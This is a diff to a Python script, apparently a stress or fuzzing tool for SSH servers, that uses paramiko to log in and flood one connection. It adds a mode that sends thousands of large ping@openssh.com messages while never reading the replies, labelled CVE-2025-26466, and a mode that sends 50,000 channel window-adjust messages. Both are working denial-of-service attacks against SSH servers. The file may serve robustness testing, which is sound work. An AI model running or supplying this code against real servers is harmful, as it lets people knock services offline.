@@ -1,4 +1,5 @@
-"""Says on one connection what no honest client says, and stays. Prints "flooded" when it is done.
+"""Says on one connection what no honest client says, and stays. Prints "begins" when it is
+logged in and "flooded" when it is done.
 
 python flood.py KIND PORT USER KEY FOLDER
 """
@@ -55,6 +56,23 @@ def requests(transport):
 def global_requests(transport):
     for _ in range(20_000):
         transport._send_message(message(80, string(b"x" * 1000), b"\1"))
+
+
+def pings(transport):
+    """OpenSSH's ping@openssh.com, whose answers nobody collects (CVE-2025-26466)."""
+    transport._handler_table = dict(transport._handler_table)
+    transport._handler_table[193] = lambda answer: time.sleep(60)
+    for _ in range(2_000):
+        transport._send_message(message(192, string(b"p" * 30_000)))
+
+
+def adjusts(transport):
+    """Windows that open and open."""
+    channel = transport.open_session()
+    for _ in range(50_000):
+        transport._send_message(
+            message(93, struct.pack(">II", channel.remote_chanid, 1 << 12))
+        )
 
 
 def extended(transport):
@@ -120,6 +138,7 @@ client.connect(
     allow_agent=False,
     look_for_keys=False,
 )
+print("begins", flush=True)
 try:
     globals()[kind](client.get_transport())
 except (paramiko.SSHException, EOFError, OSError) as e:
